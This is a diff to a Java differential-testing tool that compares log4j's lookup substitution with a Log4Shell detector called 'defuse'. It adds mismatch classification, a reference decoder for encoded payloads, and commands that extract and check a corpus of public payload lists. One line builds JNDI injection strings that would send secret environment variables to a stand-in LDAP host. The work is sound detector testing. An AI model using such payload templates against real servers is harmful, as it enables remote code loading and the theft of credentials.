@@ -6,11 +6,23 @@
  *   gen SEED COUNT                write COUNT random cases to stdout
  *   tohex                         text lines on stdin (UTF-8) -> hex lines;
  *                                 blank lines and lines starting "#" skipped
+ *   tohex-all                     the same, keeping every line
  *   eval                          hex cases on stdin -> oracle results on stdout
  *   compare CASES EXPECTED GOT [MAX] [--names-only]
  *                                 print the first MAX differing cases, exit 1
  *                                 if any differ
  *   show                          hex lines on stdin -> escaped text
+ *   version                       the log4j-core version on the class path
+ *   patch CORE_JAR OUTDIR         write 2.19's StrSubstitutor.class with
+ *                                 2.14.1's fresh cycle stack for nested names
+ *   minimize DEFUSE_EVAL          hex cases on stdin -> one minimized input
+ *                                 per mismatch class (Markdown)
+ *   decode                        hex on stdin -> hex after the reference
+ *                                 transport decoder (for corpus_payloads.sh)
+ *   corpus-extract LOGSDIR        the corpus's payload strings, as
+ *                                 LABEL TAB SOURCE TAB HEX
+ *   corpus-check TSV RAW DECODED NORMAL EXACT
+ *                                 the rules of tests/e2e/corpus_payloads.sh
  *
  * A result line is "STATUS[ =HEX]...[ #HEXFINAL]": STATUS is ok, cycle
  * (2.14.1's IllegalStateException "Infinite loop"), overflow
@@ -93,7 +105,10 @@ public final class Log4jDiff {
 
     private final TreeSet<String> requested = new TreeSet<>();
     private final Substituter sub;
-    private final LogEvent event;
+    private LogEvent event;
+    /* A second event at another time: a result that differs between the two
+     * depends on the clock (an unquoted letter in ${date:...}). */
+    private final LogEvent otherTimeEvent;
     /** Upper bound of MessagePatternConverter passes (a guard, never reached by generated cases). */
     private static final int MAX_TEXT = 1 << 20;
 
@@ -161,6 +176,8 @@ public final class Log4jDiff {
             });
         event = Log4jLogEvent.newBuilder().setLoggerName("diff").setLevel(Level.INFO)
                 .setMessage(new SimpleMessage("diff")).setTimeMillis(0L).build();
+        otherTimeEvent = Log4jLogEvent.newBuilder().setLoggerName("diff").setLevel(Level.INFO)
+                .setMessage(new SimpleMessage("diff")).setTimeMillis(1234567890123L).build();
     }
 
     static String version() {
@@ -736,6 +753,39 @@ public final class Log4jDiff {
         return p;
     }
 
+    /** null if e and g agree, else a short name for how they differ. */
+    static String mismatchClass(final Parsed e, final Parsed g) {
+        final boolean gOk = g.status.equals("ok") || g.status.equals("recursion");
+        if (!gOk) {
+            return "defuse-" + g.status;
+        }
+        if (e.names.equals(g.names) && e.error() == g.error()) {
+            return null;
+        }
+        if (e.error() != g.error()) {
+            return e.error() ? "log4j-error-only" : "defuse-recursion-only";
+        }
+        final TreeSet<String> es = new TreeSet<>();
+        final TreeSet<String> gs = new TreeSet<>();
+        /* U+03C2 final sigma vs U+03C3: Java's context rule differs from ICU's */
+        for (final String h : e.names) {
+            es.add(h.replace("cf82", "cf83"));
+        }
+        for (final String h : g.names) {
+            gs.add(h.replace("cf82", "cf83"));
+        }
+        if (es.equals(gs)) {
+            return "final-sigma";
+        }
+        if (gs.containsAll(es)) {
+            return "extra-names";
+        }
+        if (es.containsAll(gs)) {
+            return "missing-names";
+        }
+        return "different-names";
+    }
+
     private static String names(final TreeSet<String> hs) {
         final StringBuilder sb = new StringBuilder("[");
         for (final String h : hs) {
@@ -758,6 +808,7 @@ public final class Log4jDiff {
                     got.size());
             return 1;
         }
+        final java.util.TreeMap<String, Integer> classes = new java.util.TreeMap<>();
         int bad = 0;
         int fired = 0;
         int errors = 0;
@@ -770,10 +821,11 @@ public final class Log4jDiff {
             if (e.error()) {
                 errors++;
             }
-            final boolean gOk = g.status.equals("ok") || g.status.equals("recursion");
-            if (gOk && e.names.equals(g.names) && e.error() == g.error()) {
+            final String cls = mismatchClass(e, g);
+            if (cls == null) {
                 continue;
             }
+            classes.merge(cls, 1, Integer::sum);
             if (bad++ < max) {
                 out.printf("MISMATCH case %d: %s%n", i + 1, show(unhex(cases.get(i))));
                 out.printf("  log4j : %s %s%n", e.status, names(e.names));
@@ -783,9 +835,361 @@ public final class Log4jDiff {
                 }
             }
         }
+        if (!classes.isEmpty()) {
+            out.println("mismatch classes: " + classes);
+        }
         out.printf("%d cases, %d fire JNDI in log4j, %d end in a log4j error; %d mismatches%n", cases.size(),
                 fired, errors, bad);
         return bad == 0 ? 0 : 1;
+    }
+
+    /* ---------------------------------------------------------------- */
+    /* The shared corpus: payload extraction, reference decoder, check   */
+    /* ---------------------------------------------------------------- */
+
+    /* How each file of logs/payloads/MANIFEST.txt (and the two hard-negative
+     * files of logs/benign) is laid out, and the label of its strings:
+     * P = log4j should fire, N = benign, U = unlabelled public payload list,
+     * C = constructed here from a watch list. */
+    private static final String[][] CORPUS_FILES = {
+        {"payloads/righettod_payloads.md", "md-code", "U"},
+        {"payloads/log4shell-rex_testdata.csv", "csv-col1", "U"},
+        {"payloads/puliczek_bypass_words_extracted.txt", "lines", "U"},
+        {"payloads/puliczek_env_secret_names_raw_list.txt", "env-names", "C"},
+        {"payloads/log4shell-detector_tests_positive.txt", "lines-nl-escaped", "U"},
+        {"payloads/log4shell-detector_tests_negative.txt", "lines", "N"},
+        {"payloads/constructed_edge_cases.tsv", "tsv-labelled", "?"},
+        {"benign/issues_realworld_dollar_brace_and_jndi_hard_negatives.log", "lines", "N"},
+        {"benign/neo23x0_detector_testcases_negative_decoded.txt", "lines", "N"},
+    };
+
+    /** corpus-extract LOGSDIR: prints LABEL TAB SOURCE TAB HEX per string. */
+    private static int corpusExtract(final String logs) throws IOException {
+        /* Every file the payload manifest names must have a layout here. */
+        final java.util.Set<String> known = new java.util.HashSet<>();
+        for (final String[] f : CORPUS_FILES) {
+            known.add(f[0]);
+        }
+        for (final String l : Files.readAllLines(Paths.get(logs, "payloads/MANIFEST.txt"), StandardCharsets.UTF_8)) {
+            if (l.startsWith("#") || !l.contains("|")) {
+                continue;
+            }
+            final String name = "payloads/" + l.substring(0, l.indexOf('|')).trim();
+            if (!known.contains(name)) {
+                System.err.println("corpus-extract: " + name + " is in MANIFEST.txt but has no layout in Log4jDiff");
+                return 1;
+            }
+        }
+        try (BufferedWriter w = stdout()) {
+            for (final String[] f : CORPUS_FILES) {
+                final byte[] raw = Files.readAllBytes(Paths.get(logs, f[0]));
+                final String text = new String(raw, StandardCharsets.UTF_8);
+                final String[] lines = text.split("\n", -1);
+                final int nlines = text.endsWith("\n") ? lines.length - 1 : lines.length;
+                boolean inCode = false;
+                for (int i = 0; i < nlines; i++) {
+                    String l = lines[i];
+                    String label = f[2];
+                    final String src = f[0] + ":" + (i + 1);
+                    switch (f[1]) {
+                    case "md-code":
+                        if (l.startsWith("```")) {
+                            inCode = !inCode;
+                            continue;
+                        }
+                        if (!inCode || l.isEmpty()) {
+                            continue;
+                        }
+                        break;
+                    case "csv-col1":
+                        if (i == 0) {
+                            continue; /* header */
+                        }
+                        if (l.startsWith("\"")) {
+                            /* quoted field, may span lines; "" is a quote */
+                            final StringBuilder sb = new StringBuilder();
+                            int j = 1;
+                            String cur = l;
+                            while (true) {
+                                if (j >= cur.length()) {
+                                    sb.append('\n');
+                                    cur = lines[++i];
+                                    j = 0;
+                                    continue;
+                                }
+                                final char c = cur.charAt(j);
+                                if (c == '"') {
+                                    if (j + 1 < cur.length() && cur.charAt(j + 1) == '"') {
+                                        sb.append('"');
+                                        j += 2;
+                                        continue;
+                                    }
+                                    break;
+                                }
+                                sb.append(c);
+                                j++;
+                            }
+                            l = sb.toString();
+                        }
+                        break;
+                    case "env-names":
+                        if (l.isEmpty()) {
+                            continue;
+                        }
+                        l = "${jndi:ldap://x.example/a?" + l + "=${env:" + l + "}}";
+                        break;
+                    case "lines-nl-escaped":
+                        l = l.replace("\\n", "\n");
+                        break;
+                    case "tsv-labelled": {
+                        if (l.startsWith("#") || l.isEmpty()) {
+                            continue;
+                        }
+                        final String[] t = l.split("\t", -1);
+                        label = t[0];
+                        l = t[1];
+                        break;
+                    }
+                    default: /* lines */
+                        if (l.isEmpty()) {
+                            continue;
+                        }
+                    }
+                    w.write(label + "\t" + src + "\t" + hex(l) + "\n");
+                }
+            }
+        }
+        return 0;
+    }
+
+    private static final String[][] ENTITIES = {
+        {"dollar", "$"}, {"lbrace", "{"}, {"lcub", "{"}, {"rbrace", "}"}, {"rcub", "}"}, {"colon", ":"},
+        {"sol", "/"}, {"period", "."}, {"amp", "&"}, {"quot", "\""}, {"lt", "<"}, {"gt", ">"}, {"num", "#"},
+        {"percnt", "%"}, {"bsol", "\\"}, {"hyphen", "-"}, {"dash", "-"}, {"apos", "'"}
+    };
+
+    private static int hexDigits(final byte[] b, final int at, final int n) {
+        if (at + n > b.length) {
+            return -1;
+        }
+        int v = 0;
+        for (int k = 0; k < n; k++) {
+            final int d = Character.digit(b[at + k], 16);
+            if (d < 0) {
+                return -1;
+            }
+            v = v << 4 | d;
+        }
+        return v;
+    }
+
+    private static void putUtf8(final java.io.ByteArrayOutputStream o, final int cp) {
+        final byte[] u = new String(Character.toChars(cp)).getBytes(StandardCharsets.UTF_8);
+        o.write(u, 0, u.length);
+    }
+
+    /* One round of every transport decoding the corpus uses.  A reference
+     * written from the encodings' definitions, independent of lib/decode.c. */
+    static byte[] decodeRound(final byte[] b) {
+        final java.io.ByteArrayOutputStream o = new java.io.ByteArrayOutputStream(b.length);
+        for (int i = 0; i < b.length; ) {
+            final int c = b[i] & 255;
+            int v;
+            if (c == '%' && i + 1 < b.length && (b[i + 1] == 'u' || b[i + 1] == 'U')
+                    && (v = hexDigits(b, i + 2, 4)) >= 0) {
+                putUtf8(o, v);
+                i += 6;
+            } else if (c == '%' && (v = hexDigits(b, i + 1, 2)) >= 0) {
+                o.write(v);
+                i += 3;
+            } else if (c == '\\' && i + 1 < b.length && b[i + 1] == 'u' && (v = hexDigits(b, i + 2, 4)) >= 0) {
+                int w2;
+                if (Character.isHighSurrogate((char) v) && i + 11 < b.length + 0 && b[i + 6] == '\\'
+                        && b[i + 7] == 'u' && (w2 = hexDigits(b, i + 8, 4)) >= 0
+                        && Character.isLowSurrogate((char) w2)) {
+                    putUtf8(o, Character.toCodePoint((char) v, (char) w2));
+                    i += 12;
+                } else {
+                    putUtf8(o, v);
+                    i += 6;
+                }
+            } else if (c == '\\' && i + 1 < b.length && b[i + 1] == 'x' && (v = hexDigits(b, i + 2, 2)) >= 0) {
+                o.write(v);
+                i += 4;
+            } else if (c == '\\' && i + 1 < b.length && b[i + 1] >= '0' && b[i + 1] <= '7') {
+                int n = 0;
+                v = 0;
+                while (n < 3 && i + 1 + n < b.length && b[i + 1 + n] >= '0' && b[i + 1 + n] <= '7'
+                        && v * 8 + (b[i + 1 + n] - '0') < 256) {
+                    v = v * 8 + (b[i + 1 + n] - '0');
+                    n++;
+                }
+                o.write(v);
+                i += 1 + n;
+            } else if (c == '\\' && i + 1 < b.length && (b[i + 1] == '\\' || b[i + 1] == '/' || b[i + 1] == '"')) {
+                o.write(b[i + 1]);
+                i += 2;
+            } else if (c == '&') {
+                int semi = -1;
+                for (int k = i + 1; k < b.length && k < i + 12; k++) {
+                    if (b[k] == ';') {
+                        semi = k;
+                        break;
+                    }
+                }
+                String rep = null;
+                if (semi > 0) {
+                    final String ent = new String(b, i + 1, semi - i - 1, StandardCharsets.ISO_8859_1);
+                    try {
+                        if (ent.startsWith("#x") || ent.startsWith("#X")) {
+                            rep = new String(Character.toChars(Integer.parseInt(ent.substring(2), 16)));
+                        } else if (ent.startsWith("#")) {
+                            rep = new String(Character.toChars(Integer.parseInt(ent.substring(1))));
+                        }
+                    } catch (final IllegalArgumentException e) {
+                        rep = null;
+                    }
+                    for (final String[] en : ENTITIES) {
+                        if (en[0].equalsIgnoreCase(ent)) {
+                            rep = en[1];
+                        }
+                    }
+                }
+                if (rep != null) {
+                    final byte[] u = rep.getBytes(StandardCharsets.UTF_8);
+                    o.write(u, 0, u.length);
+                    i = semi + 1;
+                } else {
+                    o.write(c);
+                    i++;
+                }
+            } else if (c == 'B' && i + 6 < b.length && new String(b, i, 6, StandardCharsets.ISO_8859_1)
+                    .equals("Basic ")) {
+                /* HTTP Basic credentials: decode the token if it is Base64 of text */
+                int e = i + 6;
+                while (e < b.length && (Character.isLetterOrDigit(b[e]) || b[e] == '+' || b[e] == '/'
+                        || b[e] == '=')) {
+                    e++;
+                }
+                byte[] dec = null;
+                try {
+                    dec = Base64.getDecoder().decode(java.util.Arrays.copyOfRange(b, i + 6, e));
+                } catch (final IllegalArgumentException ex) {
+                    dec = null;
+                }
+                if (dec != null && dec.length > 0) {
+                    o.write(dec, 0, dec.length);
+                    i = e;
+                } else {
+                    o.write(c);
+                    i++;
+                }
+            } else {
+                o.write(c);
+                i++;
+            }
+        }
+        return o.toByteArray();
+    }
+
+    static String decodeAll(final String hexIn) {
+        byte[] b = unhexBytes(hexIn);
+        for (int round = 0; round < 8; round++) {
+            final byte[] n = decodeRound(b);
+            if (java.util.Arrays.equals(n, b)) {
+                break;
+            }
+            b = n;
+        }
+        final StringBuilder sb = new StringBuilder();
+        for (final byte x : b) {
+            sb.append(Character.forDigit((x >> 4) & 15, 16)).append(Character.forDigit(x & 15, 16));
+        }
+        return sb.toString();
+    }
+
+    /** corpus-check TSV RAW DEC NORMAL EXACT: applies the rules of tests/e2e/corpus_payloads.sh. */
+    private static int corpusCheck(final String[] a) throws IOException {
+        final List<String> tsv = Files.readAllLines(Paths.get(a[1]));
+        final List<String> raw = Files.readAllLines(Paths.get(a[2]));
+        final List<String> dec = Files.readAllLines(Paths.get(a[3]));
+        final List<String> norm = Files.readAllLines(Paths.get(a[4]));
+        final List<String> exact = Files.readAllLines(Paths.get(a[5]));
+        final PrintStream out = new PrintStream(System.out, true, "UTF-8");
+        int fireRaw = 0, fireRawOk = 0, exactOk = 0, errRaw = 0, errRawOk = 0, fireDec = 0, fireDecOk = 0;
+        int quiet = 0, quietOk = 0, neg = 0, negOk = 0, fail = 0;
+        for (int i = 0; i < tsv.size(); i++) {
+            final String[] t = tsv.get(i).split("\t");
+            final String label = t[0];
+            final String text = show(unhex(t[2]));
+            final Parsed r = parse(raw.get(i));
+            final Parsed d = parse(dec.get(i));
+            final Parsed n = parse(norm.get(i));
+            final Parsed x = parse(exact.get(i));
+            final boolean nOk = n.status.equals("ok") || n.status.equals("recursion");
+            String problem = null;
+            if (label.equals("N")) {
+                neg++;
+            }
+            if (!r.names.isEmpty()) {
+                fireRaw++;
+                if (x.names.equals(r.names) && x.error() == r.error() && x.status.matches("ok|recursion")) {
+                    exactOk++;
+                } else {
+                    problem = "exact mode differs from log4j: log4j " + r.status + " " + names(r.names)
+                            + ", defuse exact " + x.status + " " + names(x.names);
+                }
+                if (nOk && n.names.equals(r.names)) {
+                    fireRawOk++;
+                } else if (problem == null) {
+                    problem = "log4j fires " + names(r.names) + ", defuse normal mode reports " + n.status + " "
+                            + names(n.names);
+                }
+            } else if (r.error()) {
+                errRaw++;
+                if (n.status.equals("recursion") && n.names.isEmpty()) {
+                    errRawOk++;
+                } else {
+                    problem = "log4j ends in " + r.status + ", defuse normal mode reports " + n.status + " "
+                            + names(n.names);
+                }
+            } else if (!d.names.isEmpty()) {
+                fireDec++;
+                if (nOk && n.names.equals(d.names)) {
+                    fireDecOk++;
+                } else {
+                    problem = "decoded, log4j fires " + names(d.names) + ", defuse normal mode reports " + n.status
+                            + " " + names(n.names);
+                }
+            } else {
+                quiet++;
+                if (nOk && n.names.isEmpty()) {
+                    quietOk++;
+                } else {
+                    problem = "log4j fires nothing (raw or decoded), defuse normal mode reports " + n.status + " "
+                            + names(n.names);
+                }
+            }
+            if (label.equals("N") && r.names.isEmpty() && d.names.isEmpty() && n.names.isEmpty() && nOk) {
+                negOk++;
+            } else if (label.equals("N") && problem == null) {
+                problem = "labelled N but log4j fires " + names(r.names) + names(d.names);
+            }
+            if (label.equals("P") && r.names.isEmpty() && d.names.isEmpty() && !r.error()) {
+                out.printf("note: %s labelled P, log4j fires nothing raw or decoded: %s (defuse: %s %s)%n", t[1],
+                        text, n.status, names(n.names));
+            }
+            if (problem != null) {
+                fail++;
+                out.printf("FAIL %s [%s] %s%n     %s%n", t[1], label, text, problem);
+            }
+        }
+        out.printf("%d strings: log4j fires %d as written (defuse normal %d same callbacks, exact mode %d identical);"
+                + " %d end in a log4j cycle (defuse recursion %d); %d fire only after decoding (defuse %d);"
+                + " %d never fire (defuse silent on %d); %d labelled N (clean %d); %d failures%n",
+                tsv.size(), fireRaw, fireRawOk, exactOk, errRaw, errRawOk, fireDec, fireDecOk, quiet, quietOk, neg,
+                negOk, fail);
+        return fail == 0 ? 0 : 1;
     }
 
     /* ---------------------------------------------------------------- */
@@ -843,7 +1247,20 @@ public final class Log4jDiff {
                 + (onlyG.size() > (onlyG.contains("") ? 1 : 0));
     }
 
-    /** Greedy delta debugging: removes spans while the mismatch keeps its shape. */
+    /** True if s evaluates the same at two different times. */
+    private boolean timeStable(final String s) {
+        final String a = evaluate(s);
+        final LogEvent keep = event;
+        event = otherTimeEvent;
+        try {
+            return parse(evaluate(s)).names.equals(parse(a).names);
+        } finally {
+            event = keep;
+        }
+    }
+
+    /** Greedy delta debugging: removes spans while the mismatch keeps its shape
+     * (and the input stays independent of the clock). */
     private String minimize(final String input, final Defuse d) throws IOException {
         String s = input;
         final String sig = signature(parse(evaluate(s)), parse(d.eval(s)));
@@ -856,7 +1273,7 @@ public final class Log4jDiff {
             for (int size = Math.max(1, s.length() / 2); size >= 1; size = size == 1 ? 0 : Math.max(1, size / 2)) {
                 for (int i = 0; i + size <= s.length(); ) {
                     final String cand = s.substring(0, i) + s.substring(i + size);
-                    if (sig.equals(signature(parse(evaluate(cand)), parse(d.eval(cand))))) {
+                    if (sig.equals(signature(parse(evaluate(cand)), parse(d.eval(cand)))) && timeStable(cand)) {
                         s = cand;
                         changed = true;
                     } else {
@@ -872,10 +1289,16 @@ public final class Log4jDiff {
     private static void minimizeAll(final String evalPath) throws Exception {
         final Log4jDiff o = new Log4jDiff();
         final PrintStream out = new PrintStream(System.out, true, "UTF-8");
+        final java.util.Set<String> seen = new java.util.HashSet<>();
         try (Defuse d = new Defuse(evalPath); BufferedReader rd = stdin()) {
             String l;
             while ((l = rd.readLine()) != null) {
                 final String in = unhex(l.trim());
+                /* one example per mismatch class */
+                final String cls = mismatchClass(parse(o.evaluate(in)), parse(d.eval(in)));
+                if (cls != null && !seen.add(cls)) {
+                    continue;
+                }
                 final String m = o.minimize(in, d);
                 if (m == null) {
                     out.println("- (no mismatch) `" + show(in) + "`");
@@ -883,7 +1306,7 @@ public final class Log4jDiff {
                 }
                 final Parsed e = parse(o.evaluate(m));
                 final Parsed g = parse(d.eval(m));
-                out.println("- input: `" + show(m) + "`  (hex " + hex(m) + ")");
+                out.println("- [" + cls + "] input: `" + show(m) + "`  (hex " + hex(m) + ")");
                 out.println("  - expected (log4j): " + e.status + " " + names(e.names));
                 out.println("  - got (defuse):     " + g.status + " " + names(g.names));
             }
@@ -1039,7 +1462,8 @@ public final class Log4jDiff {
 
     private static void usage() {
         System.err.println("usage: Log4jDiff gen SEED COUNT | tohex | eval | show | version | patch CORE_JAR OUTDIR"
-                + " | minimize DEFUSE_EVAL"
+                + " | minimize DEFUSE_EVAL | decode | corpus-extract LOGSDIR"
+                + " | corpus-check TSV RAW DECODED NORMAL EXACT"
                 + " | compare CASES EXPECTED GOT [MAX]");
         System.exit(2);
     }
@@ -1063,11 +1487,13 @@ public final class Log4jDiff {
             }
             break;
         }
-        case "tohex": {
+        case "tohex":
+        case "tohex-all": {
+            final boolean all = a[0].equals("tohex-all");
             try (BufferedReader rd = stdin(); BufferedWriter w = stdout()) {
                 String l;
                 while ((l = rd.readLine()) != null) {
-                    if (l.isEmpty() || l.startsWith("#")) {
+                    if (!all && (l.isEmpty() || l.startsWith("#"))) {
                         continue;
                     }
                     w.write(hex(l));
@@ -1109,6 +1535,28 @@ public final class Log4jDiff {
             if (fail[0] != null) {
                 fail[0].printStackTrace();
                 System.exit(2);
+            }
+            break;
+        }
+        case "corpus-extract":
+            if (a.length != 2) {
+                usage();
+            }
+            System.exit(corpusExtract(a[1]));
+            break;
+        case "corpus-check":
+            if (a.length != 6) {
+                usage();
+            }
+            System.exit(corpusCheck(a));
+            break;
+        case "decode": {
+            try (BufferedReader rd = stdin(); BufferedWriter w = stdout()) {
+                String l;
+                while ((l = rd.readLine()) != null) {
+                    w.write(decodeAll(l.trim()));
+                    w.write('\n');
+                }
             }
             break;
         }
